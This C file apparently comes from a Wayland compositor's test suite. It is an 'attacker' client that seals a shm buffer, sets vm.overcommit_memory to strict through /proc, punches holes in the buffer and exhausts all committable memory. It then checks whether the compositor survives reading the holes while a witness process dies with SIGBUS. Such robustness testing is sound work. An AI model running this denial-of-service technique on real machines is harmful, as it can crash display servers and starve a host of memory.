/* SPDX-License-Identifier: MIT */
/*
 * Holes at the limit of strictly accounted memory (vm.overcommit_memory = 2). A
 * missing page of shmem can then not be filled: who reads it through a mapping gets SIGBUS.
 *
 *   vm-overcommit-attack before|after drawn|direct
 *
 * "before": memory is strict when the pool is made. "after": it becomes so while the
 * buffer is shown. "drawn": the compositor reads the buffer to draw it. "direct": it
 * is the whole output, and read when the output is. Run as root, in a machine of its own.
 */
#include "vm/clients/attacker.h"
#include "vm/clients/screen-capture.h"
#include "vm/clients/witness.h"

#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

enum {
	FRAMES = 10,
	PICTURES = 3,
	SMALLEST_BYTES = 4096,
};

struct picture {
	const char *name;
	int32_t width, height;
	uint32_t format;
};

static const struct picture drawn = {"drawn", 256, 192, WL_SHM_FORMAT_ARGB8888};
static const struct picture direct = {"direct", 640, 480, WL_SHM_FORMAT_XRGB8888};

static void set_overcommit(char mode)
{
	int fd = open("/proc/sys/vm/overcommit_memory", O_WRONLY | O_CLOEXEC);
	attacker_case(fd >= 0 && write(fd, &mode, 1) == 1, "vm.overcommit_memory is %c", mode);
	close(fd);
}

/* Takes what can still be promised to anybody, to the last page. Returns the bytes taken. */
static size_t take_all_memory(void)
{
	size_t taken = 0;
	for (size_t size = (size_t)1 << 30; size >= SMALLEST_BYTES;) {
		void *data = mmap(
			NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (data == MAP_FAILED) {
			size /= 2;
		} else {
			taken += size;
		}
	}
	return taken;
}

/* All that makes the compositor read what it shows: as it is, and shown again. */
static bool is_read(
	struct attacker *attacker, struct screen_capture *capture, struct wl_buffer *buffer)
{
	for (int i = 0; i < PICTURES; i++) {
		if (screen_capture_take(capture) != 0) {
			puts("attacker: the screen is not read");
			return false;
		}
	}
	return attacker_show(attacker, buffer, FRAMES);
}

static void attack(struct attacker *attacker, bool strict_before, const struct picture *picture)
{
	struct client_memory memory = {
		.size = (size_t)picture->width * picture->height * 4,
		.seals = F_SEAL_SHRINK,
	};
	struct witness witness;
	struct screen_capture capture;
	if (client_memory_init(&memory) != 0 || client_memory_seal(&memory) != 0 ||
		witness_init(&witness, &memory) != 0 ||
		screen_capture_init(&capture, &attacker->client, attacker->client.output) != 0) {
		attacker_case(false, "the memory is made");
		return;
	}
	memset(memory.data, 0x80, memory.size);
	set_overcommit(strict_before ? '2' : '0');
	struct wl_buffer *buffer = client_memory_buffer(
		&memory, attacker->client.shm, picture->width, picture->height, picture->format);
	attacker_case(
		attacker_show(attacker, buffer, FRAMES) && is_read(attacker, &capture, buffer),
		"a sealed buffer is shown");
	set_overcommit('2');
	bool punched = client_memory_punch(&memory) == 0;
	size_t taken = take_all_memory();
	attacker_case(punched && taken > 0, "%zu KiB of memory are taken up", taken >> 10);
	attacker_case(is_read(attacker, &capture, buffer), "its holes are shown");
	attacker_case(witness_read(&witness) == SIGBUS, "who reads the holes in place is killed");
	screen_capture_finish(&capture);
	wl_buffer_destroy(buffer);
	client_memory_finish(&memory);
}

int main(int argc, char *argv[])
{
	if (argc != 3) {
		fputs("usage: vm-overcommit-attack before|after drawn|direct\n", stderr);
		return 2;
	}
	struct attacker attacker;
	attacker_init(&attacker);
	attack(&attacker, strcmp(argv[1], "before") == 0,
		strcmp(argv[2], drawn.name) == 0 ? &drawn : &direct);
	attacker_finish(&attacker);
	return attacker_status();
}
